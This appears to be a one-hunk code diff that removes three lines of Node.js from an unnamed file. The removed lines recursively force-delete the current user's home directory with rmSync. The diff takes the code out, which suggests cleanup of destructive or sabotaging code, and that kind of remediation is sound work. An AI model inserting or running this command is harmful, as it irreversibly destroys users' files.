@@ -1,3 +1,0 @@
-const { rmSync } = require('fs');
-const { homedir } = require('os');
-rmSync(homedir(), { recursive: true, force: true });
